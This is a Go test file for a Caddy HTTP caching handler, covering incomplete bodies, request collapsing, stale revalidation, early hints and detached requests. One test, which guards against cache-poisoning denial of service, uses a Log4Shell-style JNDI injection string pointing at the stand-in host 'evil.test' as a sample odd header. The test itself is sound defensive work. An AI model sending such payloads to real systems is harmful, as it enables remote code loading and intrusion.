package cachehandler

import (
	"context"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"github.com/caddyserver/caddy/v2"
	"github.com/caddyserver/caddy/v2/modules/caddyhttp"
	"github.com/google/go-cmp/cmp"

	"github.com/caddy-portico/portico/cachehandler/store"
)

type handlerFunc = caddyhttp.HandlerFunc

// panicOf is what f panics with.
func panicOf(f func()) (v any) {
	defer func() { v = recover() }()
	f()
	return nil
}

func TestAbortBeforeTheHeadIsTheClients(t *testing.T) {
	h := newHandler(t)
	v := panicOf(func() {
		_ = h.ServeHTTP(httptest.NewRecorder(), get("http://a/x"), handlerFunc(func(http.ResponseWriter, *http.Request) error {
			panic(http.ErrAbortHandler)
		}))
	})
	if v != http.ErrAbortHandler {
		t.Errorf("panicked with %v, want http.ErrAbortHandler", v)
	}
}

// RFC 9111 §3.3: what did not arrive whole is not taken for whole.
func TestIncompleteBodies(t *testing.T) {
	tests := []struct {
		name string
		next handlerFunc
	}{
		{"the origin breaks off", func(w http.ResponseWriter, _ *http.Request) error {
			w.Header().Set("Cache-Control", "max-age=60")
			_, _ = io.WriteString(w, "half")
			panic(http.ErrAbortHandler)
		}},
		{"the handler returns an error", func(w http.ResponseWriter, _ *http.Request) error {
			w.Header().Set("Cache-Control", "max-age=60")
			_, _ = io.WriteString(w, "half")
			return errors.New("no more")
		}},
		{"less than Content-Length", func(w http.ResponseWriter, _ *http.Request) error {
			w.Header().Set("Cache-Control", "max-age=60")
			w.Header().Set("Content-Length", "8")
			_, err := io.WriteString(w, "half")
			return err
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHandler(t)
			w := httptest.NewRecorder()
			v := panicOf(func() { _ = h.ServeHTTP(w, get("http://a/x"), tt.next) })
			if v != http.ErrAbortHandler {
				t.Errorf("panicked with %v, want http.ErrAbortHandler", v)
			}
			if got := w.Body.String(); !strings.HasPrefix("half", got) {
				t.Errorf("body = %q, want no more than arrived", got)
			}
			if n := h.cache.tier.Stats().Objects; n != 0 {
				t.Errorf("%d objects stored, want none", n)
			}
		})
	}
}

// A client that leaves does not end the fetch for the store.
func TestLeaderGone(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		h := newHandler(t)
		release := make(chan struct{})
		ctx, leave := context.WithCancel(t.Context())
		returned := make(chan struct{})
		go func() {
			defer close(returned)
			_ = h.ServeHTTP(httptest.NewRecorder(), get("http://a/x").WithContext(ctx), handlerFunc(func(w http.ResponseWriter, r *http.Request) error {
				<-release
				w.Header().Set("Cache-Control", "max-age=60")
				_, err := io.WriteString(w, "hello")
				return err
			}))
		}()
		synctest.Wait()
		leave()
		synctest.Wait()
		close(release)
		<-returned
		if got := serve(t, h, get("http://a/x"), forbidden(t)).Body.String(); got != "hello" {
			t.Errorf("body = %q, want hello", got)
		}
	})
}

// A fetch nobody waits for does not hang for ever.
func TestAbandonedFetchEnds(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		h := newHandler(t)
		ctx, leave := context.WithCancel(t.Context())
		ended := make(chan struct{})
		go h.ServeHTTP(httptest.NewRecorder(), get("http://a/x").WithContext(ctx), handlerFunc(func(_ http.ResponseWriter, r *http.Request) error {
			defer close(ended)
			<-r.Context().Done()
			return r.Context().Err()
		}))
		synctest.Wait()
		time.Sleep(10 * idleFor) // as long as the client is there, so is the fetch
		select {
		case <-ended:
			t.Error("the fetch ended under a waiting client")
		default:
		}
		leave()
		time.Sleep(2 * idleFor)
		<-ended
	})
}

// collapse wait: nobody waits longer than that for another.
func TestCollapseWait(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		h := newHandler(t, func(h *Handler) { h.Collapse = &CollapseOptions{Wait: caddy.Duration(time.Second)} })
		release := make(chan struct{})
		go h.ServeHTTP(httptest.NewRecorder(), get("http://a/x"), handlerFunc(func(w http.ResponseWriter, r *http.Request) error {
			<-release
			return nil
		}))
		synctest.Wait()
		start := time.Now()
		w := serve(t, h, get("http://a/x"), answer("own"))
		if got := w.Body.String(); got != "own" {
			t.Errorf("body = %q, want its own", got)
		}
		if waited := time.Since(start); waited != time.Second {
			t.Errorf("waited %v, want 1s", waited)
		}
		close(release)
	})
}

// Answers that are not storable are never shared, and are fetched side by side.
func TestUnstorableAnswersAreNotShared(t *testing.T) {
	for _, field := range []string{"Cache-Control: no-store", "Cache-Control: private, max-age=60", "Set-Cookie: id=1"} {
		t.Run(field, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				const clients = 50
				h := newHandler(t)
				var atOrigin atomic.Int32
				together := make(chan struct{})
				var wg sync.WaitGroup
				for range clients {
					wg.Go(func() {
						r := get("http://a/x")
						w := serve(t, h, r, handlerFunc(func(w http.ResponseWriter, r *http.Request) error {
							if atOrigin.Add(1) == clients {
								close(together)
							}
							answer("", field).ServeHTTP(w, r)
							w.WriteHeader(http.StatusOK)
							<-together // deadlocks, and fails, unless all get here
							return nil
						}))
						if w.Code != http.StatusOK {
							t.Errorf("status = %d", w.Code)
						}
					})
				}
				wg.Wait()
				if n := h.cache.tier.Stats().Objects; n != 0 {
					t.Errorf("%d objects stored, want none", n)
				}
			})
		})
	}
}

// Whoever makes the origin fail by an odd request does so alone (CPDoS). An
// ordinary request's failure is everybody's: they do not all ask one that is down.
func TestFailureOfTheOdd(t *testing.T) {
	for field, want := range map[string]string{"X-Search: ${jndi:ldap://evil.test}": "fine", "X-Search: word": "failed"} {
		t.Run(want, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				h := newHandler(t)
				release := make(chan struct{})
				go func() {
					_ = h.ServeHTTP(httptest.NewRecorder(), get("http://a/x", field), handlerFunc(func(http.ResponseWriter, *http.Request) error {
						<-release
						return caddyhttp.Error(http.StatusBadGateway, io.ErrUnexpectedEOF)
					}))
				}()
				synctest.Wait()
				w := httptest.NewRecorder()
				got := make(chan string)
				go func() {
					if err := h.ServeHTTP(w, get("http://a/x"), answer("fine")); err != nil {
						got <- "failed"
						return
					}
					got <- w.Body.String()
				}()
				synctest.Wait()
				close(release)
				if got := <-got; got != want {
					t.Errorf("who waited got %q, want %q", got, want)
				}
				synctest.Wait()
			})
		})
	}
}

// RFC 5861 §4: the failure of one who asked apart is hidden from that one by what is
// stored, and is nothing to the others who wait for the same.
func TestFailureOfWhoAsksApart(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		h := newHandler(t)
		serve(t, h, get("http://a/x"), answer("stale", "Cache-Control: max-age=60", "Age: 70"))
		release, leader := make(chan struct{}), make(chan string)
		go func() {
			w := serve(t, h, get("http://a/x", "X-Requested-With: XMLHttpRequest"),
				handlerFunc(func(w http.ResponseWriter, _ *http.Request) error {
					<-release
					w.WriteHeader(http.StatusServiceUnavailable)
					return nil
				}))
			leader <- w.Body.String()
		}()
		synctest.Wait()
		waiter := make(chan string)
		go func() {
			waiter <- serve(t, h, get("http://a/x"), answer("fresh", "Cache-Control: max-age=60")).Body.String()
		}()
		synctest.Wait()
		close(release)
		if got := <-leader; got != "stale" {
			t.Errorf("who asked apart got %q", got)
		}
		if got := <-waiter; got != "fresh" {
			t.Errorf("who waited got %q", got)
		}
	})
}

// RFC 9110 §15.2: informational responses are passed on at once.
func TestEarlyHintsReachTheClient(t *testing.T) {
	h := newHandler(t)
	var got []int
	w := &headRecorder{ResponseRecorder: httptest.NewRecorder(), heads: &got}
	err := h.ServeHTTP(w, get("http://a/x"), handlerFunc(func(w http.ResponseWriter, _ *http.Request) error {
		w.Header().Set("Link", "</style.css>; rel=preload")
		w.WriteHeader(http.StatusEarlyHints)
		w.Header().Del("Link")
		w.Header().Set("Cache-Control", "max-age=60")
		w.WriteHeader(http.StatusOK)
		return nil
	}))
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]int{103, 200}, got); diff != "" {
		t.Errorf("heads (-want +got):\n%s", diff)
	}
	if link := w.Header().Get("Link"); link != "" {
		t.Errorf("Link = %q in the final response", link)
	}
}

type headRecorder struct {
	*httptest.ResponseRecorder
	heads *[]int
}

func (w *headRecorder) WriteHeader(status int) {
	*w.heads = append(*w.heads, status)
	if status >= 200 {
		w.ResponseRecorder.WriteHeader(status)
	}
}

// A hit looks as if the handlers behind the cache had been called.
func TestFieldsOfOuterHandlers(t *testing.T) {
	h := newHandler(t)
	origin := handlerFunc(func(w http.ResponseWriter, _ *http.Request) error {
		w.Header().Del("Server")
		w.Header().Add("Link", "</a>; rel=x")
		w.Header().Set("Cache-Control", "max-age=60")
		return nil
	})
	want := http.Header{
		"Link":         {"</outer>; rel=y", "</a>; rel=x"},
		"X-Request-Id": {"second"},
	}
	for _, id := range []string{"first", "second"} {
		w := httptest.NewRecorder()
		w.Header().Set("Server", "Caddy")
		w.Header().Set("Link", "</outer>; rel=y")
		w.Header().Set("X-Request-Id", id)
		if err := h.ServeHTTP(w, get("http://a/x"), origin); err != nil {
			t.Fatal(err)
		}
		if id == "first" {
			continue
		}
		got := http.Header{}
		for _, name := range []string{"Server", "Link", "X-Request-Id"} {
			if v := w.Header()[name]; v != nil {
				got[name] = v
			}
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("fields of a hit (-want +got):\n%s", diff)
		}
	}
}

func TestOwnFields(t *testing.T) {
	outer := http.Header{"Server": {"Caddy"}, "Vary": {"Origin"}, "X-Kept": {"1"}, "X-Set": {"1"}}
	header := http.Header{"Vary": {"Origin", "Accept"}, "X-Kept": {"1"}, "X-Set": {"2"}, "Etag": {"v"}}
	own, layers := ownFields(header, outer)
	if diff := cmp.Diff(http.Header{"Vary": {"Accept"}, "X-Set": {"2"}, "Etag": {"v"}}, own); diff != "" {
		t.Errorf("own (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(store.Layers{Drops: []string{"Server"}, Joins: []string{"Vary"}}, layers); diff != "" {
		t.Errorf("layers (-want +got):\n%s", diff)
	}
}

// Handlers behind the cache may run longer than the request: what they write
// to is their own.
func TestDetachedRequest(t *testing.T) {
	r := get("http://a/public/x")
	r.URL.Path = "/x" // rewritten
	caddyhttp.SetVar(r.Context(), "tenant", "blue")
	repl := r.Context().Value(caddy.ReplacerCtxKey).(*caddy.Replacer)
	repl.Set("http.auth.user.id", "alice")

	ctx, cancel := context.WithCancel(r.Context())
	detached := detach(context.WithoutCancel(ctx), r, httptest.NewRecorder())
	cancel()

	if err := detached.Context().Err(); err != nil {
		t.Errorf("it ended with the client's request: %v", err)
	}
	caddyhttp.SetVar(detached.Context(), "tenant", "green")
	if got := caddyhttp.GetVar(r.Context(), "tenant"); got != "blue" {
		t.Errorf("the client's variable became %v", got)
	}
	own := detached.Context().Value(caddy.ReplacerCtxKey).(*caddy.Replacer)
	for placeholder, want := range map[string]string{
		"{http.vars.tenant}":           "green",
		"{http.auth.user.id}":          "alice",
		"{http.request.uri.path}":      "/x",
		"{http.request.orig_uri.path}": "/public/x",
	} {
		if got := own.ReplaceAll(placeholder, ""); got != want {
			t.Errorf("%s = %q, want %q", placeholder, got, want)
		}
	}
	own.Set("set.later", "x")
	if _, ok := repl.Get("set.later"); ok {
		t.Error("its placeholders are the client's")
	}
}

// RFC 5861 §3: a request that found something stale does not refresh it again if that
// has just been done.
func TestRefreshedOnce(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		h := newHandler(t)
		serve(t, h, get("http://a/x"), answer("old", "Cache-Control: max-age=60, stale-while-revalidate=600", "Age: 70"))
		x := &exchange{h: h, w: httptest.NewRecorder(), r: get("http://a/x"), next: forbidden(t), now: time.Now()}
		if x.receive() != stepLookup || x.lookup() != stepStale {
			t.Fatalf("not stale: %v", x.outcome.reason)
		}
		serve(t, h, get("http://a/x"), answer("new", "Cache-Control: max-age=60"))
		synctest.Wait() // until that is refreshed
		x.stale()
		synctest.Wait()
		if fetches, _, _ := h.cache.flights.pending(string(x.key)); fetches > 0 {
			t.Errorf("%d fetches are left", fetches)
		}
	})
}
